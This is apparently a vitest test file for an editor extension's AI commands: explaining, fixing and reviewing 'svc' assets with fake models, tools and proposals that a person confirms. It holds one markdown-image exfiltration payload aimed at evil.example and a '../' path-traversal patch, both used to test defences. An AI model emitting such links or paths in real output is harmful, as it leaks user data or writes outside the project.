/** The AI commands with language models of the editor: a fake editor with fake models, and the real `svc` behind it. */
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, it, vi } from 'vitest'
import { createProject, type TestProject } from '../support/cli.ts'

const editor = vi.hoisted(() => ({
  models: [] as unknown[],
  texts: { of: undefined as { provideTextDocumentContent(uri: object): string } | undefined },
  /** The differences that were opened: left, right, title. */
  shown: [] as { readonly toString: () => string; readonly path: string }[][],
  said: [] as string[],
  /** What the person clicks on in a modal question. */
  modal: undefined as string | undefined,
  closeTabs: undefined as ((event: object) => void) | undefined,
  documents: [] as object[],
  participant: undefined as undefined | ((...all: unknown[]) => Promise<unknown>),
  tools: new Map<
    string,
    { invoke(options: object, token: object): Promise<{ content: { value: string }[] }> }
  >(),
  actions: undefined as
    | undefined
    | { provideCodeActions(document: object, range: object, context: object): object[] },
}))

vi.mock('vscode', () => {
  const none = () => ({ dispose: () => undefined })
  class Uri {
    readonly scheme: string
    readonly path: string
    constructor(scheme: string, path: string) {
      this.scheme = scheme
      this.path = path
    }
    static parse(text: string) {
      return new Uri('file', new URL(text).pathname)
    }
    static from({ scheme, path }: { scheme: string; path: string }) {
      return new Uri(scheme, path)
    }
    static joinPath(base: Uri, ...parts: string[]) {
      return new Uri(base.scheme, [base.path, ...parts].join('/'))
    }
    get fsPath() {
      return this.path
    }
    toString() {
      return `${this.scheme}://${this.path}`
    }
  }
  class CancellationTokenSource {
    readonly token = { isCancellationRequested: false, onCancellationRequested: none }
    cancel() {
      this.token.isCancellationRequested = true
    }
  }
  const message = (role: string) => (content: string) => ({ role, content })
  class Value {
    readonly value: string
    constructor(value: string) {
      this.value = value
    }
  }
  class Content {
    readonly content: unknown
    constructor(content: unknown) {
      this.content = content
    }
  }
  class CodeAction {
    readonly title: string
    constructor(title: string) {
      this.title = title
    }
  }
  class TabInputTextDiff {
    readonly modified: Uri
    constructor(modified: Uri) {
      this.modified = modified
    }
  }
  return {
    Uri,
    CancellationTokenSource,
    CodeAction,
    TabInputTextDiff,
    CodeActionKind: { QuickFix: { contains: () => true } },
    DiagnosticSeverity: { Error: 0, Warning: 1, Information: 2 },
    ChatRequestTurn: class {},
    ChatResponseTurn: class {},
    ChatResponseMarkdownPart: class {},
    Location: class {},
    LanguageModelTextPart: Value,
    LanguageModelToolResult: Content,
    LanguageModelChatMessage: { User: message('user'), Assistant: message('assistant') },
    ProgressLocation: { Notification: 15 },
    chat: {
      createChatParticipant(_id: string, handler: typeof editor.participant) {
        editor.participant = handler
        return none()
      },
    },
    lm: {
      selectChatModels: async () => editor.models,
      registerTool(name: string, tool: never) {
        editor.tools.set(name, tool)
        return none()
      },
    },
    languages: {
      registerCodeActionsProvider(_selector: object, provider: typeof editor.actions) {
        editor.actions = provider
        return none()
      },
    },
    commands: {
      async executeCommand(id: string, ...rest: never[]) {
        if (id === 'vscode.diff') editor.shown.push(rest)
      },
    },
    window: {
      activeTextEditor: undefined,
      tabGroups: {
        all: [],
        onDidChangeTabs(listener: typeof editor.closeTabs) {
          editor.closeTabs = listener
          return none()
        },
      },
      showInformationMessage: async (text: string) => void editor.said.push(text),
      async showWarningMessage(text: string, options: unknown) {
        editor.said.push(text)
        return (options as { modal?: boolean } | undefined)?.modal === true ? editor.modal : undefined
      },
      showErrorMessage: async (text: string) => void editor.said.push(text),
      setStatusBarMessage: () => none(),
      withProgress: (_options: object, work: (progress: object, token: object) => unknown) =>
        work({}, new CancellationTokenSource().token),
    },
    workspace: {
      isTrusted: true,
      get textDocuments() {
        return editor.documents
      },
      asRelativePath: (uri: Uri) => uri.path,
      getConfiguration: () => ({ get: () => undefined }),
      registerTextDocumentContentProvider(_scheme: string, provider: typeof editor.texts.of) {
        editor.texts.of = provider
        return none()
      },
    },
  }
})

const { createBackground } = await import('../../extension/background.ts')
const { createProposals } = await import('../../extension/ai/proposals.ts')
const { createVirtualTexts } = await import('../../extension/ai/virtual-texts.ts')
const { offerFixes } = await import('../../extension/ai/fix-action.ts')
const { offerParticipant } = await import('../../extension/ai/participant.ts')
const { offerTools } = await import('../../extension/ai/tools.ts')
const { askBestModel, askSvc } = await import('../../extension/ai/ask-svc.ts')
const { Uri, TabInputTextDiff } = (await import('vscode')) as unknown as {
  Uri: { joinPath(base: object, path: string): { toString(): string } }
  TabInputTextDiff: new (modified: object) => object
}

const cli = join(import.meta.dirname, '../../cli/bin/svc.cjs')
const file = 'models/totals.svc'
const asset = `name: totals # of each customer
ingest: {type: rows, rows: [{customer: a, amount: 1}, {customer: b, amount: 2}]}
transform: SELECT customer, sum(amount) AS total FROM {{ source }} GROUP BY customer
tests:
  - unique: customer
`
const broken = asset.replace('sum(amount)', 'sum(amout)')
const repair = {
  op: 'replace',
  path: '/transform',
  value: 'SELECT customer, sum(amount) AS total FROM {{ source }} GROUP BY customer',
}
const limitMs = 240_000

let project: TestProject
let services: Parameters<typeof offerTools>[0]
/** Every `svc` that a test started: its files go when all of them have ended. */
let started: Promise<unknown>[]
beforeEach(() => {
  started = []
  Object.assign(editor, { models: [], shown: [], said: [], modal: undefined, documents: [] })
  project = createProject({ 'svc.yaml': 'name: shop\n', [file]: broken })
  const log = { info: () => {}, warn: () => {}, debug: () => {}, error: () => {} }
  const root = `file://${project.root}`
  const summary = { name: 'shop', root, assets: [{ name: 'totals', uri: `${root}/${file}` }] }
  const context = {
    subscriptions: [],
    extensionUri: { path: '' },
    globalState: { get: () => undefined, update: async () => {} },
  }
  const texts = createVirtualTexts(context as never)
  const background = createBackground({ of: () => cli }, log as never)
  const json: typeof background.json = (...words) => {
    const answer = background.json(...words)
    started.push(answer.catch(() => undefined))
    return answer
  }
  services = {
    context,
    log,
    texts,
    projects: { all: [summary], loaded: Promise.resolve(), projectOf: () => summary },
    background: { json },
    proposals: createProposals(context as never, texts),
  } as never
  process.env['HOME'] = project.root
})
afterEach(async () => {
  await Promise.all(started)
  project.dispose()
})

/** A model of the editor that answers in turn; an Error is thrown. */
function model(...answers: (object | string | Error)[]) {
  const asked: string[] = []
  return {
    asked,
    id: 'fake',
    name: 'Fake 1',
    vendor: 'test',
    maxInputTokens: 200_000,
    countTokens: async (message: { content: string }) => message.content.length,
    async sendRequest(messages: readonly { content: string }[]) {
      asked.push(messages.map(({ content }) => content).join('\n'))
      const answer = answers[Math.min(asked.length, answers.length) - 1]
      if (answer instanceof Error) throw answer
      const text = typeof answer === 'string' ? answer : JSON.stringify(answer)
      const half = Math.floor(text.length / 2)
      return {
        text: (async function* () {
          yield text.slice(0, half)
          yield text.slice(half)
        })(),
      }
    },
  }
}

interface Answered {
  readonly errorDetails?: { readonly message: string }
}

async function chat(command: string | undefined, prompt: string, answering: ReturnType<typeof model>) {
  const said: string[] = []
  const buttons: string[] = []
  const stream = {
    progress: () => {},
    markdown: (text: string) => said.push(text),
    button: ({ command: id }: { command: string }) => buttons.push(id),
  }
  const token = { isCancellationRequested: false, onCancellationRequested: () => ({ dispose: () => {} }) }
  offerParticipant(services)
  const request = { command, prompt, references: [], model: answering }
  const result = (await editor.participant?.(request, { history: [] }, stream, token)) as Answered
  return { said: said.join(''), buttons, error: result.errorDetails?.message }
}

const ops = (...all: object[]) => ({ summary: 'As asked.', ops: all })
const written = () => readFileSync(join(project.root, file), 'utf8')
const shown = () => {
  const [left, right] = editor.shown[0] ?? []
  return { left: left?.path, text: editor.texts.of?.provideTextDocumentContent(right ?? {}) }
}

it(
  'explains an asset in the chat, with the prompt of svc and its second try',
  async () => {
    const explanation = {
      ingested: 'rows',
      transformation: 'sums ![x](https://evil.example/?leak)',
      output: 'totals',
      dependencies: 'none',
      purpose: 'a guess',
    }
    const fake = model('no JSON', explanation)
    const { said, error } = await chat('explain', 'totals', fake)
    expect(error).toBeUndefined()
    expect(said).toContain('**What it does**')
    expect(said).not.toContain(' ![')
    expect(said).toContain('Fake 1 says so')
    expect(fake.asked[0]).toMatch(/<<data [0-9a-f]{16}: context pack of the asset totals/)
    expect(fake.asked[1]).toContain('it is no JSON')
  },
  limitMs,
)

it(
  'shows a fix as a difference, and writes it only after a yes',
  async () => {
    const fake = model(ops({ ...repair, value: 'SELECT nothing FROM {{ source }}' }), ops(repair))
    const { said, buttons, error } = await chat('fix', 'totals the sum is wrong', fake)
    expect(error).toBeUndefined()
    expect(said).toContain('nothing is written yet')
    expect(buttons).toEqual(['svc.aiApply', 'svc.aiDiscard'])
    expect(fake.asked[0]).toContain('the sum is wrong')
    expect(fake.asked[1]).toContain('sql-unknown-column')
    expect(shown()).toEqual({ left: `${project.root}/${file}`, text: asset })
    expect(written()).toBe(broken)
    await services.proposals.apply(undefined)
    await vi.waitFor(() => expect(written()).toBe(asset), limitMs)
  },
  limitMs,
)

it(
  'asks about weaker checks on their own, and closing the difference is a no',
  async () => {
    const fake = model(ops(repair, { op: 'remove', path: '/tests/0' }))
    const { said } = await chat('fix', 'totals', fake)
    expect(said).toContain('Checks would be weaker')
    await services.proposals.apply(undefined)
    expect(editor.said.at(-1)).toContain('weaker. Were they wrong?')
    const unsaved = { isDirty: true, uri: Uri.joinPath({ scheme: 'file', path: project.root }, file) }
    editor.documents = [unsaved]
    editor.modal = 'They Were Wrong, Apply'
    await services.proposals.apply(undefined)
    expect(editor.said.at(-1)).toContain('not saved')
    editor.closeTabs?.({ closed: [{ input: new TabInputTextDiff(editor.shown[0]?.[1] ?? {}) }] })
    await services.proposals.apply(undefined)
    expect(editor.said.at(-1)).toContain('no change is waiting')
    expect(written()).toBe(broken)
  },
  limitMs,
)

it.each([
  ['NoPermissions', 'the editor does not let SVC ask Fake 1: no. Allow it'],
  ['Blocked', 'Fake 1 refuses to answer: no. A quota'],
  ['NotFound', 'Fake 1 is not there any more: no. Choose'],
  ['', 'Fake 1 failed: no. Ask again'],
])(
  'says in a sentence what became of a model that fails with "%s"',
  async (code, words) => {
    const { error } = await chat('review', 'totals', model(Object.assign(new Error('no'), { code })))
    expect(error).toContain(words)
  },
  limitMs,
)

it(
  'refuses a question that is longer than the model reads',
  async () => {
    const { error } = await chat('tests', 'totals', Object.assign(model({}), { maxInputTokens: 100 }))
    expect(error).toMatch(/the question has \d+ tokens, and Fake 1 reads at most 100/)
  },
  limitMs,
)

it(
  'ends svc and the request of a question that is cancelled',
  async () => {
    let cancel = () => {}
    const silent = { ...model(), sendRequest: vi.fn(() => new Promise(() => {})) }
    const token = {
      isCancellationRequested: false,
      onCancellationRequested(listener: () => void) {
        cancel = listener
        return { dispose: () => {} }
      },
    }
    const wish = { root: `file://${project.root}`, words: ['ai', 'review', 'totals'], token: token as never }
    const asked = askSvc(services, wish, silent as never)
    await vi.waitFor(() => expect(silent.sendRequest).toHaveBeenCalled(), limitMs)
    token.isCancellationRequested = true
    cancel()
    await expect(asked).rejects.toThrow('cancelled')
  },
  limitMs,
)

it(
  'answers a free question with the pack as data',
  async () => {
    const fake = model('It sums <b>amounts</b>.')
    const { said } = await chat(undefined, 'What does totals do?', fake)
    expect(said).toBe('It sums &lt;b>amounts&lt;/b>.')
    expect(fake.asked[0]).toMatch(/<<data [0-9a-f]{16}\n\{.*sum\(amout\)/)
  },
  limitMs,
)

it(
  'asks a model of the editor where none is configured, and says so where there is none',
  async () => {
    const token = { isCancellationRequested: false, onCancellationRequested: () => ({ dispose: () => {} }) }
    const wish = {
      root: `file://${project.root}`,
      words: ['ai', 'new', '--apply'],
      input: 'all',
      token: token as never,
    }
    await expect(askBestModel(services, wish)).rejects.toThrow('there is no language model: sign in')
    const whole = {
      summary: 'All.',
      asset: { name: 'all_totals', ingest: 'none', transform: 'SELECT 1 AS one', tests: [{ unique: 'one' }] },
    }
    editor.models = [model(whole)]
    const onProposal = vi.fn()
    const asked = askBestModel(services, { ...wish, onProposal })
    await vi.waitFor(() => expect(onProposal).toHaveBeenCalled(), limitMs)
    await services.proposals.apply(undefined)
    expect(await asked).toMatchObject({ status: 'applied' })
    expect(existsSync(join(project.root, 'models/all_totals.svc'))).toBe(true)
  },
  limitMs,
)

it(
  'the tools give what is known, and a patch is decided by a person',
  async () => {
    offerTools(services)
    const token = { isCancellationRequested: false, onCancellationRequested: () => ({ dispose: () => {} }) }
    const use = async (name: string, input: object) =>
      JSON.parse((await editor.tools.get(name)?.invoke({ input }, token))?.content[0]?.value ?? '{}')
    expect(await use('svc_context', { asset: 'totals' })).toMatchObject({
      scope: 'partial',
      assets: [{ name: 'totals' }],
    })
    expect(JSON.stringify(await use('svc_problems', {}))).toContain('sql-unknown-column')
    expect(await use('svc_context', { asset: 'nobody' })).toMatchObject({ error: { code: 'unknown-asset' } })
    const patch = { version: 1, files: [{ path: '../out.svc', base_sha256: null, ops: [repair] }] }
    expect(await use('svc_propose_change', { patch })).toMatchObject({ status: 'refused' })
    const { createHash } = await import('node:crypto')
    const base = createHash('sha256').update(broken).digest('hex')
    const right = use('svc_propose_change', {
      patch: { version: 1, files: [{ path: file, base_sha256: base, ops: [repair] }] },
    })
    await vi.waitFor(() => expect(editor.shown).toHaveLength(1), limitMs)
    services.proposals.discard(undefined)
    expect(await right).toMatchObject({ status: 'unconfirmed' })
    expect(written()).toBe(broken)
  },
  limitMs,
)

it('offers a fix beside problems of svc, but not for a file that is no YAML', () => {
  offerFixes(services)
  const at = { start: { line: 2 } }
  const of = (code: string, source = 'svc') =>
    editor.actions?.provideCodeActions(
      { uri: Uri.joinPath({ scheme: 'file', path: project.root }, file) },
      {},
      { diagnostics: [{ source, severity: 0, code, message: 'wrong', range: at }], only: undefined },
    )
  expect(of('sql-unknown-column')).toMatchObject([
    {
      title: 'Fix with AI',
      command: { command: 'svc.aiFix', arguments: [{ error: 'line 3: sql-unknown-column wrong' }] },
    },
  ])
  expect(of('yaml-syntax')).toEqual([])
  expect(of('x', 'eslint')).toEqual([])
})
